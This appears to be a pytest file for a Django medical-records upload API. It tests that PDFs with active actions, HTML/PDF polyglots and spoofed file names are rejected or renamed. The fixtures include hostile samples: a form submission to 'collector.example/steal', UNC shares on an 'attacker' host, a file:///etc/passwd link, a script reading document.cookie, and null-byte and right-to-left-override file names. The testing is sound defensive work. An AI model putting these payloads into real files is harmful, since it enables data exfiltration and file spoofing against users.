"""Uploads through HTTP (issue 11, items 3 and 4): the stored and served file name follows the
sniffed type, a PDF must start with its signature, and every PDF action that can send data or run
code is refused wherever its action dictionary sits."""

import io

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from medijourney.cases.models import Document
from medijourney.cases.tests.factories import case_manager, make_case
from medijourney.testing.files import pdf_bytes, png_bytes

pytestmark = pytest.mark.django_db


def upload(client: Client, case, name: str, data: bytes, content_type: str = "application/pdf"):
    return client.post(
        f"/api/v1/cases/{case.reference}/documents", {"files": [SimpleUploadedFile(name, data, content_type)]}
    )


@pytest.fixture
def patient_client():
    case_manager()
    case = make_case()
    client = Client()
    client.force_login(case.patient)
    return client, case


def pdf_with(mutate) -> bytes:
    pdf = pikepdf.open(io.BytesIO(pdf_bytes()))
    mutate(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def link_action(pdf: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
    annot = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 700, 300, 720], A=pdf.make_indirect(action)
    )
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annot)]))


def outline_action(pdf: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
    item = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("Results"), A=action))
    outlines = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = outlines
    pdf.Root.Outlines = outlines


def chained_action(pdf: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
    harmless = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[pdf.pages[0].obj, pikepdf.Name.Fit], Next=action)
    link_action(pdf, harmless)


def submit(url: str = "https://collector.example/steal") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F=url))


ACTIONS = {
    "SubmitForm": submit,
    "ImportData": lambda: pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=pikepdf.String("data.fdf")),
    "JavaScript": lambda: pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")),
    "Launch": lambda: pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe")),
    "GoToR": lambda: pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\attacker\\share\\x.pdf")),
    "Rendition": lambda: pikepdf.Dictionary(S=pikepdf.Name.Rendition, OP=0),
    "URI file:": lambda: pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("file:///etc/passwd")),
    "URI UNC": lambda: pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("\\\\attacker\\share")),
}


@pytest.mark.parametrize("place", [link_action, outline_action, chained_action], ids=["link", "outline", "next"])
@pytest.mark.parametrize("action", sorted(ACTIONS))
def test_pdf_actions_that_send_data_or_run_code_are_refused_wherever_they_sit(patient_client, action, place):
    client, case = patient_client
    data = pdf_with(lambda pdf: place(pdf, ACTIONS[action]()))
    response = upload(client, case, "results.pdf", data)
    assert response.status_code == 422, action
    assert response.json()["errors"][0]["field"] == "files"
    assert "active content" in response.json()["errors"][0]["message"]
    assert not Document.objects.filter(case=case).exists()


def test_ordinary_web_links_and_internal_links_are_kept(patient_client):
    client, case = patient_client
    web = pdf_with(
        lambda pdf: link_action(pdf, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://who.int/")))
    )
    goto = pdf_with(lambda pdf: chained_action(pdf, pikepdf.Dictionary(S=pikepdf.Name.URI, URI="mailto:a@b.org")))
    assert upload(client, case, "a.pdf", web).status_code == 201
    assert upload(client, case, "b.pdf", goto).status_code == 201


def test_an_html_pdf_polyglot_is_refused(patient_client):
    client, case = patient_client
    polyglot = b"<html><script>alert(document.cookie)</script>\n" + pdf_bytes()
    for name in ("scan.html", "scan.pdf"):
        response = upload(client, case, name, polyglot, "text/html")
        assert response.status_code == 422, name
        assert response.json()["errors"][0]["field"] == "files"
    assert not Document.objects.filter(case=case).exists()


@pytest.mark.parametrize(
    ("sent", "stored", "data"),
    [
        ("invoice.exe", "invoice.pdf", pdf_bytes),
        ("evil.pdf\x00.html", "evil.pdf", pdf_bytes),
        ("scan.html", "scan.pdf", pdf_bytes),
        ("photo.svg", "photo.png", png_bytes),
        ("knee.PDF", "knee.pdf", pdf_bytes),
        ("report.v2.pdf", "report.v2.pdf", pdf_bytes),
        ("no-extension", "no-extension.pdf", pdf_bytes),
        ("scan\u202efdp.exe", "scanfdp.pdf", pdf_bytes),
        (".pdf", "document.pdf", pdf_bytes),
    ],
)
def test_the_stored_and_served_name_follows_the_sniffed_type(patient_client, sent, stored, data):
    client, case = patient_client
    response = upload(client, case, sent, data())
    assert response.status_code == 201
    assert response.json()[0]["name"] == stored
    document = Document.objects.get(case=case)
    assert document.original_name == stored
    served = client.get(reverse("cases:document_download", args=[case.reference, document.public_id]))
    assert served.status_code == 200
    assert served["Content-Disposition"] == f'attachment; filename="{stored}"'


def test_a_name_stored_before_the_rule_is_served_with_the_sniffed_extension(patient_client):
    client, case = patient_client
    assert upload(client, case, "scan.pdf", pdf_bytes()).status_code == 201
    document = Document.objects.get(case=case)
    Document.objects.filter(pk=document.pk).update(original_name="scan.html")  # a row from an older release
    served = client.get(reverse("cases:document_download", args=[case.reference, document.public_id]))
    assert served["Content-Disposition"] == 'attachment; filename="scan.pdf"'
    assert served["Content-Type"] == "application/pdf"
